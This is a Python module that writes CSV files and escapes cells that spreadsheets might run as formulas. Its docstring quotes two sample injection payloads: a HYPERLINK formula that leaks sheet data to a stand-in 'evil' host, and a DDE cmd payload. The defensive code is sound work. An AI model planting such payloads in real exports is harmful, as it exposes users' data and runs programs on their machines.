"""CSV files for spreadsheets, escaped against formula injection.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, TAB or
CR) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the sheet, and
``+cmd|' /C calc'!A0`` ran programs through DDE. Place names and other free text in a CSV
come from people we do not control, so every text cell that starts that way, even after
leading spaces (some spreadsheets trim them), gets a leading apostrophe, which spreadsheets
read as "this is text". Numbers stay numbers so sums still work.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Sequence
from pathlib import Path

from intake_app.fsutil import atomic_output
from intake_app.progress import CancelToken, check
from intake_app.reports.text_safety import visible

Cell = str | int | float | None

FORMULA_STARTS = frozenset("=+-@\t\r")


def needs_escape(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula."""
    if text[:1] in FORMULA_STARTS:
        return True
    stripped = text.lstrip()
    return stripped != text and stripped[:1] in FORMULA_STARTS


def escape_cell(value: Cell, *, show_controls: bool = True) -> str | int | float:
    """Return the value to write: numbers as they are, text escaped and made visible.

    Booleans become the text ``true``/``false`` (never 1/0, which would be summed);
    NaN and infinities become text, since spreadsheets read them inconsistently.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else str(value)
    if not isinstance(value, str):
        raise TypeError(f"CSV cells are text or numbers, not {type(value).__name__}")
    # Shown controls before the formula check, so a cell that starts with a bare CR (now a
    # visible token) is judged on what the reader will see.
    text = visible(value) if show_controls else value
    return "'" + text if needs_escape(text) else text


def write_csv(
    path: Path,
    header: Sequence[str],
    rows: Iterable[Sequence[Cell]],
    *,
    show_controls: bool = True,
    cancel: CancelToken | None = None,
) -> int:
    """Write a UTF-8 CSV (with BOM, so spreadsheets guess the encoding) atomically.

    Rows are streamed; nothing exists under `path` until the whole file is written and
    synced. Returns the number of data rows written. Raises `StorageError` when the disk
    refuses and `Cancelled` when `cancel` is set; in both cases `path` is left untouched.
    """
    count = 0
    with atomic_output(Path(path)) as raw:
        text = io.TextIOWrapper(raw, encoding="utf-8-sig", newline="")
        writer = csv.writer(text, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
        writer.writerow([escape_cell(h, show_controls=show_controls) for h in header])
        for row in rows:
            if count % 1000 == 0:
                check(cancel)
            writer.writerow([escape_cell(c, show_controls=show_controls) for c in row])
            count += 1
        text.flush()
        # atomic_output closes the raw file; detach so the wrapper does not close it twice.
        text.detach()
    return count
